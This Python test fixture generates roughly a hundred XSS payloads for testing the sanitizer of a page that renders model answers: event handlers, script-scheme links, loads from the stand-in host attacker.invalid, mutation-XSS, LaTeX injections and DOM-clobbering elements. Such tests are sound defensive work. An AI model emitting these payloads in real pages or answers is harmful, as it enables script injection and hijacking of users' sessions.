# ruff: noqa: E501
"""Some hundred hostile texts: every way we know in which a model's answer could run, fetch, submit or pretend."""

from __future__ import annotations

from itertools import product
from typing import Final

HOST: Final = "attacker.invalid"  # a request to it is a failure
RUN: Final = "window.pwned=1"

HANDLERS = ("onerror", "onload", "onclick", "onfocus", "onmouseover", "ontoggle", "onanimationstart", "onbeforeinput")
TAGS = (
    "img src=x",
    "svg",
    "body",
    "video src=x",
    "audio src=x",
    "details open",
    "input autofocus",
    "math",
    "iframe",
    "marquee",
)
SCHEMES = (
    f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f"java\tscript:{RUN}", f" javascript:{RUN}", f"javascript&colon;{RUN}",
    f"&#106;avascript:{RUN}", f"\u0001javascript:{RUN}", f"data:text/html,<script>{RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==", f"vbscript:{RUN}", f"//{HOST}/x", f"https://{HOST}/x",
    f"blob:https://{HOST}/x", "file:///etc/passwd", "/leave", "/owner/close", "#pair",
)  # fmt: skip
LINKS = (
    "[a]({})",
    "![a]({})",
    "<{}>",
    "[a]: {}\n\n[a]",
    '[a]({} "title")',
    '<a href="{}">a</a>',
    '<form action="{}"><button>Left is better</button></form>',
)
LOADS = tuple(
    form.format(f"https://{HOST}/p.png")
    for form in (
        "<img src={0}>", "<img srcset={0}>", "<link rel=stylesheet href={0}>", "<link rel=prefetch href={0}>", "<script src={0}></script>",
        "<iframe src={0}></iframe>", "<object data={0}></object>", "<embed src={0}>", "<video poster={0}></video>", "<audio src={0}>",
        "<input type=image src={0}>", "<body background={0}>", "<table background={0}>", "<style>@import '{0}'</style>",
        "<p style=\"background:url('{0}')\">", "<svg><image href={0} /></svg>", "<svg><use href={0} /></svg>", "<base href={0}>",
        "<meta http-equiv=refresh content='0;url={0}'>", "<source src={0}>", "<track src={0}>", "![x]({0})", "![x][y]\n\n[y]: {0}",
        "<math><mtext><img src={0}></mtext></math>", "<portal src={0}>", "<picture><source srcset={0}><img></picture>", "<a ping={0} href=#>x</a>",
    )
)  # fmt: skip
FORMULAS = tuple(
    f"${tex}$"
    for tex in (
        rf"\text{{<img/src=x/onerror={RUN}>}}", rf"\href{{javascript:{RUN}}}{{x}}", r"\class{bar}{x}", r"\style{position:fixed}{x}",
        rf"\text{{</math><script>{RUN}</script>}}", rf"\unicode{{<svg onload={RUN}>}}", "{" * 200, r"\def\x{\x\x}\x", r"\id{pair}{x}",
        rf"\url{{https://{HOST}}}", rf"\includegraphics{{https://{HOST}/p.png}}", r"\mathchoice{}{}{}{", r"\color{red;}x", r"\frac" * 60,
    )
)  # fmt: skip
MUTATIONS = tuple(
    form.format(RUN)
    for form in (
        "<noscript><p title='</noscript><img src=x onerror={0}>'>", "<svg><style><img src=x onerror={0}></style></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror={0}>", "<form><math><mtext></form><form><mglyph><style></math><img src onerror={0}>",
        "<template><script>{0}</script></template>", "<svg></p><style><a id='</style><img src=1 onerror={0}>'>", "<!--><img src=x onerror={0}>-->",
        "<![CDATA[<img src=x onerror={0}>]]>", "<xmp><p title='</xmp><img src=x onerror={0}>'>", "<textarea></textarea><img src=x onerror={0}>",
        "<title></title><img src=x onerror={0}>", "</pre></article></div><script>{0}</script>", "</template><script>{0}</script>",
        "```html\n</code></pre><script>{0}</script>\n```", "`</code><img src=x onerror={0}>`", "| <img src=x onerror={0}> |\n|---|\n| x |",
        "    </code></pre><script>{0}</script>", "\\<script>{0}\\</script>", "&lt;script&gt;{0}&lt;/script&gt;", "<scr<script>ipt>{0}</script>",
        "<svg/onload={0}//", "<ScRiPt>{0}</sCrIpT>", "<img src=x onerror\x0c={0}>", "<a href='x' autofocus onfocus={0}>", "\u202e<script>{0}</script>",
        "<isindex type=image src=1 onerror={0}>", "<script\x20type='text/javascript'>{0};</script>", "{{{{constructor.constructor('{0}')()}}}}",
        "{{% set x = {0} %}}", "${{{0}}}", "<script type=module>{0}</script>", "<svg><script>{0}</script></svg>", "<svg><animate onbegin={0}>",
    )
)  # fmt: skip
TAKEOVERS = (
    '<button data-choice="left" name="choice" value="left">Left</button>', '<div data-task="stolen">x</div>', '<p data-state="saved">Saved</p>',
    '<form id="pair" method="post" action="/desk/vote"><input name="task" value="x"></form>', '<a href="#" data-act="submit">x</a>',
    '<div hx-get="/owner/close" hx-trigger="load">x</div>', '<div data-hx-post="/leave" data-hx-trigger="load">x</div>', '<h2 id="said">x</h2>',
    '<dialog open>x</dialog>', '<p style="position:fixed;inset:0;z-index:99">x</p>', '<label for="name">x</label>', '<p class="bar active primary">x</p>',
    '<img name="getElementById">', '<form name="querySelector">', '<a id="location">x</a>', '<p popover id="guide">x</p>', '<p accesskey="1">x</p>',
    '<kbd data-hint="left">9</kbd>', '<select autofocus>', '<meta name="htmx-config" content="{}">', '<base target="_top">', '<p contenteditable>x</p>',
)  # fmt: skip


def payloads() -> list[str]:
    """Every hostile text, each once."""
    made = [f"<{tag} {handler}={RUN}>" for tag, handler in product(TAGS, HANDLERS)]
    made += [f'<{tag} {handler}="{RUN}"></{tag.split()[0]}>' for tag, handler in product(TAGS, HANDLERS)]
    made += [form.format(scheme) for form, scheme in product(LINKS, SCHEMES)]
    return list(dict.fromkeys([*made, *LOADS, *FORMULAS, *MUTATIONS, *TAKEOVERS]))
